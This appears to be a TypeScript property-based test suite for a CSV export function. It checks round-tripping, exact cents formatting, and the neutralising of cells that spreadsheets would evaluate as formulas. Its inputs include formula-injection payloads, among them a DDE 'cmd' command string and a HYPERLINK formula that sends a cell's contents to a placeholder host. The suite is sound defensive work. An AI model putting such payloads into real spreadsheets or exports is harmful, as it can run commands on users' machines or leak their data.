import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { centsText, csvRow } from "./csv";

/** Reads one row as RFC 4180 has it. */
function cellsOf(row: string): string[] {
  expect(row.endsWith("\r\n")).toBe(true);
  const cells: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n$)/gy;
  for (let match = cell.exec(row); match; match = cell.exec(row)) {
    cells.push((match[1] ?? "").replaceAll('""', '"') || (match[2] ?? ""));
    if (match[3] !== ",") break;
  }
  expect(cell.lastIndex).toBe(row.length);
  return cells;
}

test("a row reads back as what was written, whatever quotes, commas and line ends it holds", () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: "binary", maxLength: 12 }), { minLength: 1 }), (texts) => {
      const bare = (text: string) => text.replaceAll("'", "");
      const read = cellsOf(csvRow(texts)).map((cell, index) =>
        bare(cell) === bare(texts[index]!) ? texts[index] : cell,
      );
      expect(read).toEqual(texts);
    }),
    { numRuns: 2_000 },
  );
});

describe("text that a spreadsheet would calculate", () => {
  test.each([
    "=1+1",
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    " =1+1",
    " \u00A0 -1",
    "\u00A0=1+1",
    "\u200B=1+1",
    "\uFEFF\u2060+1",
    "\u202E@SUM(A1)",
    "\u00AD=1",
    "\u3164=1",
    "\u2800=1",
    "\u0000=1",
    '"=1',
    '=HYPERLINK("http://x.example?"&A1)',
    "＝1+1",
    "＋1",
    "-",
    "--1",
    "-1e5",
    "+1",
  ])("%j is marked as text", (text) => {
    expect(cellsOf(csvRow([text]))).toEqual([`'${text}`]);
  });

  test.each([
    ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
    ["x\t=1", "x\t'=1"],
    ["x\n@SUM(A1)", "x\n'@SUM(A1)"],
    ["x;\u00A0\u200B-1", "x;'\u00A0\u200B-1"],
    ["x; ;\t =1;+1", "x; ;\t' =1;'+1"],
    ["\t=1+1", "'\t'=1+1"],
    ["\r=1+1", "'\r'=1+1"],
    [";=1", "';'=1"],
    // Two quotes at the beginning of a cell are an empty text, and the rest follows it.
    ['x;"=1', "x;'\"=1"],
  ])("%j is marked where a spreadsheet with another list separator begins a cell", (text, marked) => {
    expect(cellsOf(csvRow([text]))).toEqual([marked]);
  });

  test("no cell begins like a formula, whatever the list separator, and whether or not quotes are read", () => {
    const pieces = fc.constantFrom(..."=+-@;\t\r\n\"',ax1 \u00A0\u200B＝");
    fc.assert(
      fc.property(fc.array(fc.string({ unit: pieces, maxLength: 12 }), { minLength: 1 }), (texts) => {
        const numbers = texts.map((text) => (/^-?\d+$/.test(text) ? "1" : text));
        for (const cell of csvRow(numbers).split(/[;\t\r\n]/))
          expect(cell.replace(/^["\s\u200B]+/, "")).not.toMatch(/^[=+\-@＝]/);
      }),
      { numRuns: 5_000 },
    );
  });

  test.each(["x;y", "x\ty"])("%j is quoted", (text) => {
    expect(csvRow([text])).toBe(`"${text}"\r\n`);
  });

  test.each(["a = b", "x - y; z", "mail@a.example", "3 + 4"])("%j stays as it is", (text) => {
    expect(cellsOf(csvRow([text]))).toEqual([text]);
  });

  test("a long run of blanks is read once", () => {
    const text = `${"\t".repeat(200_000)}x`;
    expect(cellsOf(csvRow([text]))).toEqual([`'${text}`]);
  });

  test.each(["-1.50", "0", "1.4800", "-7", "10472", "123456789012345678901234.5"])(
    "the number %s stays one, digit for digit",
    (number) => {
      expect(csvRow([number, 1])).toBe(`${number},1\r\n`);
    },
  );
});

test.each([
  [-105, "-1.05"],
  [-5, "-0.05"],
  [0, "0.00"],
  [54_000, "540.00"],
  [Number.MAX_SAFE_INTEGER, "90071992547409.91"],
])("%d cents are %s units, exactly", (cents, text) => {
  expect(centsText(cents)).toBe(text);
});
